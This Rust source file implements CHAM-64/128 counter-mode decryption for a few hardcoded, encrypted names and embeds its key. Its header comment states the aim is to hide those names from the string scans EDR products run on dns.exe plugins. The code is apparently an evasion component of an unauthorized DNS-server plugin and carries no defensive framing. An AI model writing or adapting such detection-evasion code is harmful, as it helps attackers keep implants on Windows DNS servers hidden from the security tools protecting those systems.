//! CHAM-64/128 in counter mode for the few built-in names, so that they are not visible to the
//! DLL string scans some EDR products run on dns.exe plugins.

pub const PREFERRED: (u32, &[u8]) = (0x00d15c01, &[0x77, 0xbc, 0x8b, 0x87, 0xf6, 0x85, 0xb9, 0xa5, 0xa5, 0xa1, 0x88, 0x39, 0xc3, 0xc4, 0x7e, 0xff, 0x4f, 0xa9, 0x27, 0x2d]);
pub const PREFIX: (u32, &[u8]) = (0x00d15c02, &[0x73, 0x8c, 0x68, 0x1b, 0x61, 0xc5, 0xa5, 0xb3, 0xac, 0xb7, 0xa9]);
pub const KEY: [u8; 16] = [0xc1, 0xa4, 0xe0, 0xf3, 0x9b, 0x2d, 0x57, 0x18, 0x6e, 0x4f, 0x03, 0xaa, 0x92, 0xd5, 0xbc, 0x70];

fn rk(key: &[u8; 16]) -> [u16; 16] {
    let mut k = [0u16; 8];
    for i in 0..8 {
        k[i] = u16::from_le_bytes([key[2 * i], key[2 * i + 1]]);
    }
    let mut rk = [0u16; 16];
    for i in 0..8 {
        rk[i] = k[i] ^ k[i].rotate_left(1) ^ k[i].rotate_left(8);
        rk[(i + 8) ^ 1] = k[i] ^ k[i].rotate_left(1) ^ k[i].rotate_left(11);
    }
    rk
}

fn encrypt(rk: &[u16; 16], mut x: [u16; 4]) -> [u16; 4] {
    for i in 0..80u16 {
        let r = rk[(i % 16) as usize];
        let t = if i % 2 == 0 {
            ((x[0] ^ i).wrapping_add(x[1].rotate_left(1) ^ r)).rotate_left(8)
        } else {
            ((x[0] ^ i).wrapping_add(x[1].rotate_left(8) ^ r)).rotate_left(1)
        };
        x = [x[1], x[2], x[3], t];
    }
    x
}

pub fn ctr(iv: u32, data: &[u8]) -> Vec<u8> {
    let keys = rk(&KEY);
    let mut out = Vec::with_capacity(data.len());
    for (i, chunk) in data.chunks(8).enumerate() {
        let c = i as u32;
        let ks = encrypt(&keys, [c as u16, (c >> 16) as u16, iv as u16, (iv >> 16) as u16]);
        let ks: Vec<u8> = ks.iter().flat_map(|w| w.to_le_bytes()).collect();
        out.extend(chunk.iter().zip(ks).map(|(a, b)| a ^ b));
    }
    out
}

pub fn open(sealed: (u32, &[u8])) -> String {
    String::from_utf8_lossy(&ctr(sealed.0, sealed.1)).into_owned()
}
